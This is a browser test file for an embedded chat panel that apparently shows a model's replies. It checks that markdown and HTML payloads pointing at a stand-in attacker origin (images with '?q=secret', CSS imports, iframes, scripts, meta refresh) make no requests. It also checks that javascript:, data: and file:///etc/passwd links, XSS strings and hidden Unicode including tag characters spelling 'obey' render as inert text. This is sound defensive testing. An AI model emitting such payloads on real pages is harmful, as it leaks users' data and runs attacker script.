import type { Browser } from 'playwright-core';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { launchBrowser } from '../../support/browser.ts';
import { observe } from '../../support/observation.ts';
import { openPanel, type Panel } from './open-panel.ts';

let browser: Browser;
let panel: Panel;
/** Every request of the page since the panel was there, but for the API's. */
const stray: string[] = [];

// One panel for all: what one payload did would show in every test after it as well.
beforeAll(async () => {
  browser = await launchBrowser();
  panel = await openPanel(browser);
  await panel.frame.locator('.greeting').waitFor();
  panel.page.on('request', (request) => {
    if (!request.url().startsWith(`${panel.api.widgetOrigin}/api/`)) stray.push(request.url());
  });
});
afterAll(async () => {
  await panel.close();
  await browser.close();
});
afterEach(() => {
  expect(panel.problems).toEqual([]);
  expect(panel.api.evilRequests).toEqual([]);
  expect(stray).toEqual([]);
});

/** Lets the model say `text` in pieces and answers what the frame drew of it. */
async function say(text: string, pieces = 1) {
  const count = await panel.frame.locator('.exchange').count();
  const reply = await panel.ask('Go on.');
  const size = Math.ceil(text.length / pieces);
  for (let at = 0; at < text.length; at += size) reply.write(text.slice(at, at + size));
  reply.cite({ number: 1, title: text.slice(0, 200), excerpt: text.slice(0, 1_000) });
  reply.end();
  const exchange = panel.frame.locator('.exchange').nth(count);
  await exchange.locator('.copy').waitFor();
  const said = exchange.locator('.said');
  const drawn = (await said.textContent()) ?? '';
  observe('happening', () => `drawn: ${drawn.slice(0, 200)}`);
  return said;
}

const IMAGE = (evil: string) => `![secret](${evil}/pixel.png?q=secret)`;

test.each<[string, (evil: string) => string]>([
  ['an inline image', IMAGE],
  ['a reference image', (evil) => `![secret][pixel]\n\n[pixel]: ${evil}/pixel.png`],
  ['an image in a link', (evil) => `[${IMAGE(evil)}](${evil}/page)`],
  ['an image in a table', (evil) => `| a | b |\n|---|---|\n| ${IMAGE(evil)} | x |`],
  ['an image in a list in a quote', (evil) => `> - ${IMAGE(evil)}`],
  ['an autolink', (evil) => `<${evil}/auto> and ${evil}/bare`],
  ['an HTML image', (evil) => `<img src="${evil}/img.png" onerror="fetch('${evil}/js')">`],
  ['an SVG', (evil) => `<svg><image href="${evil}/svg.png"/><use href="${evil}/use.svg#a"/></svg>`],
  ['a style sheet', (evil) => `<style>@import "${evil}/a.css"; body{background:url(${evil}/b.png)}</style>`],
  ['a style attribute', (evil) => `<p style="background:url(${evil}/c.png)">x</p>`],
  [
    'a frame, a form and a media element',
    (evil) => `<iframe src="${evil}"></iframe><form action="${evil}"></form><video src="${evil}">`,
  ],
  [
    'link elements and a meta refresh',
    (evil) => `<link rel=prefetch href="${evil}"><meta http-equiv=refresh content="0;url=${evil}">`,
  ],
  ['a base and a script', (evil) => `<base href="${evil}/"><script src="${evil}/x.js"></script>`],
])('case 52: asks nobody for anything because of %s, whole or in 200 pieces', async (_, payload) => {
  const text = payload(panel.api.evilOrigin);
  await say(text);
  const said = await say(text, 200);
  expect(
    await said.locator('img, image, svg:not(.icon), style, link, iframe, form, video, base, script, meta').count(),
  ).toBe(0);
});

test('case 52: shows an image as its words', async () => {
  const said = await say(`Look: ${IMAGE(panel.api.evilOrigin)}`);
  expect(await said.locator('.markdown').textContent()).toBe('Look: [image: secret]');
});

test.each([
  'javascript:alert(1)',
  ' java\tscript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '%6aavascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'blob:https://shop.example/1',
  'file:///etc/passwd',
  'http://plain.example/',
])('case 54: makes text, and no link, of %j', async (href) => {
  const said = await say(`[press me](${href})`);
  expect(await said.locator('a, .link').count()).toBe(0);
  expect(await said.locator('.markdown').textContent()).toContain('press me');
});

test('case 54: makes text of schemes in angle brackets', async () => {
  const said = await say('<javascript:alert(1)> <data:text/html,x> <vbscript:x>');
  expect(await said.locator('.markdown').textContent()).toBe('<javascript:alert(1)> <data:text/html,x> <vbscript:x>');
});

test('case 54: opens a link to the embedding site, and shows any other whole before it opens', async () => {
  const { shopOrigin } = panel.api;
  const said = await say(`[ours](${shopOrigin}/a) and [theirs](https://bücher.example/b?c=d) here.`);
  const ours = said.getByRole('link', { name: 'ours' });
  expect(await ours.getAttribute('href')).toBe(`${shopOrigin}/a`);
  expect(await ours.getAttribute('rel')).toBe('noopener noreferrer');
  expect(await said.locator('.host').textContent()).toBe(' (xn--bcher-kva.example)');
  expect(await said.locator('.markdown a').count()).toBe(1);
  await said.locator('.link').click();
  expect(await said.locator('.strip bdi').textContent()).toBe('https://xn--bcher-kva.example/b?c=d');
  expect(await said.getByRole('link', { name: 'Open this page' }).getAttribute('target')).toBe('_blank');
});

test('case 40, case 54: a page that a link opens can neither see nor reach the frame', async () => {
  const said = await say(`[ours](${panel.api.shopOrigin}/silent)`);
  const opening = panel.page.context().waitForEvent('page');
  await said.getByRole('link', { name: 'ours' }).click();
  const opened = await opening;
  await opened.waitForLoadState();
  expect(await opened.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
  await opened.close();
});

test('case 55: takes out what turns, hides or piles up characters', async () => {
  const hidden = [...'obey'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
  const said = await say(`pay\u202Egpj\u2066.exe shop\u200B.example${hidden} z${'\u0301'.repeat(100)}`);
  expect(await said.locator('.markdown').textContent()).toBe(`paygpj.exe shop.example z${'\u0301'.repeat(6)}`);
  expect(await said.locator('.source').textContent()).not.toMatch(/[\u202e\u2066\u200b]/);
});

test.each([
  ['10,000 nested quotes', `${'>'.repeat(10_000)} end`],
  ['10,000 nested lists', `${'- '.repeat(10_000)}end`],
  ['100,000 combining marks', `z${'\u0301'.repeat(100_000)} end`],
  ['a line of one megabyte', 'word '.repeat(200_000)],
  ['a line of 200,000 marks', '*a* '.repeat(50_000)],
  ['100,000 lines', 'a\n'.repeat(100_000)],
  ['50,000 list entries', '- a\n'.repeat(50_000)],
])('case 55: stays small and can be used with %s', async (_, text) => {
  const said = await say(text);
  expect(await said.evaluate((root) => root.querySelectorAll('*').length)).toBeLessThan(5_000);
  await panel.frame.fill('textarea', 'Still here');
  expect(await panel.frame.inputValue('textarea')).toBe('Still here');
});

test('case 55: a visitor’s own words stay text, too', async () => {
  const reply = await panel.ask('<img src=x onerror=alert(1)> **not bold** \u202Eabc');
  reply.end();
  const bubble = panel.frame.locator('.exchange:last-child .bubble', { hasText: 'not bold' });
  await bubble.waitFor();
  expect(await bubble.textContent()).toBe('You: <img src=x onerror=alert(1)> **not bold** abc');
  expect(await bubble.locator('img, strong').count()).toBe(0);
});
